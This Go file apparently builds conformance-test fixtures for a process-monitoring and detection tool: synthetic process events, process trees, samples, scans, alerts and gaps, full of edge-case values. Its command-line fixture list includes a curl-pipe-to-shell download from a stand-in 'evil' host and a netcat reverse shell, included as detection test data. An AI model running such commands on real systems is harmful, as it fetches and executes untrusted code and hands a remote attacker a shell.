//go:build unix

package conformance

import (
	"math"
	"slices"
	"time"

	"daemoneye/bus/event"
)

var base = time.Date(2024, 3, 1, 12, 0, 0, 0, time.UTC)

// dataSet is the rows that the statements are about: NULLs, empty strings,
// extremes, characters of several bytes, in batches of different sizes.
func dataSet() []*event.Batch {
	return slices.Concat(processEvents(), processes(), processSamples(), []*event.Batch{scans(), alerts(), eventGaps()})
}

func processEvents() []*event.Batch {
	b := event.NewBuilder(event.Lookup("process_events"))
	names := []string{"bash", "sh", "curl", "", "python3", "sshd", "naïve", "日本", "a%b", `back\slash`, "Bash", "under_score"}
	commands := []string{
		"bash -c 'curl http://evil/x | sh'", "", "/usr/bin/python3 -m http.server 8080", "nc -e /bin/sh 10.0.0.1 4444",
		"echo héllo wörld", "日本語 テスト", "a\nb\tc", "100% sure", `C:\temp`, "  padded  ", `say "hi", ok`, "x",
	}
	var batches []*event.Batch
	for i := range 40 {
		b.Column("time").Time(base.Add(time.Duration(i*i) * 7 * time.Minute).Add(time.Duration(i) * 123457 * time.Microsecond))
		b.Column("event").Text([]string{"seen", "exec", "changed", "exit"}[i%4])
		b.Column("source").Text("procfs")
		b.Column("entity_id").Text(string(rune('a'+i%26)) + "-entity")
		b.Column("pid").Int([]int64{int64(i), 1, 2147483647, -2147483648, 4242}[i%5])
		if i%3 != 0 {
			b.Column("ppid").Int(int64(i % 7))
		}
		if i%6 != 5 {
			b.Column("name").Text(names[i%len(names)])
		}
		if i%7 != 6 {
			b.Column("command_line").Text(commands[i%len(commands)])
		}
		if i%4 != 3 {
			b.Column("executable_path").Text("/usr/bin/" + names[(i*5)%len(names)])
		}
		if i%5 != 4 {
			b.Column("user_id").Int([]int64{0, 1000, 65534, math.MaxInt64, math.MinInt64}[i%5])
			b.Column("user_name").Text([]string{"root", "alice", "nobody", "Ünï"}[i%4])
		}
		if i%4 != 1 {
			b.Column("cpu_usage").Float([]float64{0, 0.1, 99.95, 1e-7, 1.5e15, 123456789.125, -2.25, 2.5, 3.5}[i%9])
		}
		if i%6 != 2 {
			b.Column("memory_usage").Int(int64(i) * 1048576)
		}
		if i%2 == 0 {
			b.Column("start_time").Time(base.Add(-time.Duration(i) * 36 * time.Hour))
		}
		if i%8 != 7 {
			b.Column("ancestors").Texts([][]string{{}, {"/sbin/init"}, {"/usr/sbin/sshd", "/bin/bash"}, {"a,b", `q"x`, ""}, {"NULL", "日本"}}[i%5])
		}
		if i%3 == 1 {
			b.Column("namespaces").JSON([]byte([]string{`{"mnt": 4026531841, "pid": 1}`, `{"b":[1,2,{"c":null}],"aa":"x","a":1.50}`, `{}`, `{"s":"q\"\n\u00e9","t":true}`}[i%4]))
		}
		if i%4 == 2 {
			b.Column("environment_vars").JSON([]byte([]string{`{"PATH":"/bin:/usr/bin","HOME":"/root"}`, `["x","y",3]`, `"str"`}[i%3]))
		}
		b.Column("kernel_thread").Bool(i%11 == 0)
		if i%9 != 8 {
			b.Column("file_exists").Bool(i%4 != 0)
		}
		b.Column("accessible").Bool(i%2 == 0)
		b.Column("collection_time").Time(base.Add(time.Duration(i) * time.Second))
		b.EndRow()
		if i == 0 || i == 16 {
			batches = append(batches, b.Batch())
		}
	}
	return append(batches, b.Batch())
}

// processes are a tree with two cycles and an orphan in it. Some share
// entity_id, name or user_id with process_events.
func processes() []*event.Batch {
	b := event.NewBuilder(event.Lookup("processes"))
	var batches []*event.Batch
	for i, p := range []struct {
		pid, ppid int64
		name      string
		user      int64
		memory    int64
		parents   []string
	}{
		{1, 0, "systemd", 0, 11 << 20, []string{}},
		{2, 0, "kthreadd", 0, -1, nil},
		{10, 1, "sshd", 0, 7 << 20, []string{"/sbin/init"}},
		{11, 10, "sshd", 0, 7 << 20, []string{"/usr/sbin/sshd", "/sbin/init"}},
		{12, 11, "bash", 1000, 4 << 20, []string{"/usr/sbin/sshd", "/usr/sbin/sshd", "/sbin/init"}},
		{13, 12, "curl", 1000, 5242881, []string{"/bin/bash"}},
		{14, 12, "sh", 1000, 1 << 20, []string{"/bin/bash"}},
		{15, 14, "nc", 1000, 0, []string{"/bin/sh", "/bin/bash"}},
		{16, 1, "cron", 0, 2 << 20, []string{"/sbin/init"}},
		{17, 16, "sh", 0, 1 << 20, []string{"/usr/sbin/cron", "/sbin/init"}},
		{18, 17, "python3", 65534, 64 << 20, []string{"/bin/sh"}},
		{4242, 12, "naïve", math.MaxInt64, 3, []string{"日本", "a,b"}},
		{30, 30, "loop", -1, -1, nil},
		{31, 32, "", 1000, 9 << 20, []string{""}},
		{32, 31, "-", 1001, 9 << 20, []string{"NULL"}},
		{40, -1, "Bash", -1, 4 << 20, nil},
	} {
		b.Column("entity_id").Text(string(rune('a'+i)) + "-entity")
		b.Column("pid").Int(p.pid)
		if p.ppid >= 0 {
			b.Column("ppid").Int(p.ppid)
		}
		if p.name != "-" {
			b.Column("name").Text(p.name)
			b.Column("executable_path").Text("/usr/bin/" + p.name)
		}
		if p.user >= 0 {
			b.Column("user_id").Int(p.user)
			b.Column("user_name").Text(map[int64]string{0: "root", 1000: "alice", 1001: "bob", 65534: "nobody", math.MaxInt64: "Ünï"}[p.user])
		}
		if p.memory >= 0 {
			b.Column("memory_usage").Int(p.memory)
			b.Column("cpu_usage").Float([]float64{0, 0.5, 12.25, 99.95, 1e-7}[i%5])
			b.Column("start_time").Time(base.Add(-time.Duration(i%6) * time.Hour))
		}
		b.Column("threads").Int(int64(1 + i%4))
		b.Column("ancestors").Texts(p.parents)
		b.Column("kernel_thread").Bool(p.pid == 2)
		b.Column("accessible").Bool(i%3 != 0)
		b.Column("collection_time").Time(base.Add(time.Duration(i) * 90 * time.Second))
		if i%3 == 1 {
			b.Column("namespaces").JSON([]byte(`{"mnt": 4026531841, "pid": ` + string(rune('0'+i%10)) + `}`))
		}
		if i%4 == 0 {
			b.Column("environment_vars").JSON([]byte(`{"HOME": "/root", "N": "` + string(rune('a'+i)) + `"}`))
		}
		b.EndRow()
		if i == 6 {
			batches = append(batches, b.Batch())
		}
	}
	return append(batches, b.Batch())
}

// processSamples are samples of six processes, one of which is no more.
func processSamples() []*event.Batch {
	b := event.NewBuilder(event.Lookup("process_samples"))
	var batches []*event.Batch
	for i := range 36 {
		pid := []int64{1, 10, 12, 13, 4242, 99}[i%6]
		b.Column("time").Time(base.Add(time.Duration(i)*time.Minute + time.Duration(i%5)*time.Second))
		b.Column("entity_id").Text([]string{"a-entity", "c-entity", "e-entity", "f-entity", "l-entity", "z-entity"}[i%6])
		b.Column("pid").Int(pid)
		if i%7 != 3 {
			b.Column("name").Text([]string{"systemd", "sshd", "bash", "curl", "naïve", ""}[i%6])
		}
		b.Column("status").Text([]string{"sleeping", "running", "sleeping", "zombie"}[i%4])
		if i%8 != 5 {
			b.Column("cpu_usage").Float([]float64{0, 1.5, 2.25, 50, 99.5, 0.125}[(i*5+i/6)%6])
		}
		b.Column("cpu_time").Float(float64(i) * 0.25)
		if i%5 != 4 {
			b.Column("memory_usage").Int(int64(i%6+1)*1048576 + int64(i/6)*4096)
		}
		b.Column("threads").Int(int64(1 + i%3))
		b.EndRow()
		if i == 9 || i == 10 {
			batches = append(batches, b.Batch())
		}
	}
	return append(batches, b.Batch())
}

func scans() *event.Batch {
	b := event.NewBuilder(event.Lookup("scans"))
	for i := range 7 {
		b.Column("time").Time(base.Add(time.Duration(i) * 30 * time.Minute))
		b.Column("collector_id").Text([]string{"c1", "c2", "c1"}[i%3])
		b.Column("source").Text("procfs")
		b.Column("duration").Float([]float64{0.125, 0.25, 1.5, 0.0625}[i%4])
		b.Column("processes").Int(int64(100 + i*i))
		b.Column("inaccessible").Int(int64(i % 3))
		b.Column("vanished").Int(int64(i % 2))
		b.Column("events").Int(int64(i * 5))
		b.Column("errors").Int(int64(i / 5))
		if i >= 5 {
			b.Column("error").Text("open /proc/15/stat: permission denied")
		}
		b.EndRow()
	}
	return b.Batch()
}

func alerts() *event.Batch {
	b := event.NewBuilder(event.Lookup("alerts"))
	for i := range 6 {
		b.Column("alert_id").Text(string(rune('A' + i)))
		b.Column("time").Time(base.Add(time.Duration(i*i) * 20 * time.Minute))
		b.Column("rule_id").Text([]string{"reverse-shell", "download", "reverse-shell", "kernel"}[i%4])
		b.Column("severity").Text([]string{"critical", "high", "low"}[i%3])
		b.Column("title").Text("alert " + string(rune('0'+i)))
		if i%2 == 0 {
			b.Column("description").Text("")
		}
		if i != 3 {
			b.Column("tags").Texts([][]string{{"attack.t1059", "shell"}, {"attack.t1105"}, {}}[i%3])
		}
		b.Column("dedup_key").Text([]string{"12", "13", ""}[i%3])
		b.Column("count").Int(int64(i*i + 1))
		b.Column("first_seen").Time(base.Add(time.Duration(i) * time.Minute))
		b.Column("last_seen").Time(base.Add(time.Duration(i) * time.Hour))
		b.Column("table_name").Text([]string{"process_events", "processes"}[i%2])
		b.Column("matched_row").JSON([]byte([]string{`{"pid": 12, "name": "bash", "args": ["-c", "id"]}`, `{"pid": 13, "name": "curl"}`, `{}`}[i%3]))
		if i < 4 {
			b.Column("pid").Int([]int64{12, 13, 15, 99}[i])
			b.Column("entity_id").Text([]string{"e-entity", "f-entity", "h-entity", "z-entity"}[i])
			b.Column("process").JSON([]byte(`{"name": "x", "pid": ` + string(rune('0'+i)) + `}`))
		}
		b.Column("host").Text("lap\top")
		b.Column("complete").Bool(i%4 != 2)
		b.EndRow()
	}
	return b.Batch()
}

func eventGaps() *event.Batch {
	b := event.NewBuilder(event.Lookup("event_gaps"))
	for i := range 5 {
		b.Column("time").Time(base.Add(time.Duration(i) * 45 * time.Minute))
		b.Column("table_name").Text([]string{"process_events", "process_samples", "process_events"}[i%3])
		b.Column("start_time").Time(base.Add(time.Duration(i*40) * time.Minute))
		b.Column("end_time").Time(base.Add(time.Duration(i*40+15) * time.Minute))
		if i%2 == 0 {
			b.Column("collector_id").Text([]string{"c1", "c2", "c3"}[i/2])
		}
		b.Column("hop").Text([]string{"collector", "bus", "store", "matcher"}[i%4])
		b.Column("reason").Text([]string{"queue full", "restart", ""}[i%3])
		if i != 1 {
			b.Column("lost").Int(int64(i * 100))
		}
		b.EndRow()
	}
	return b.Batch()
}
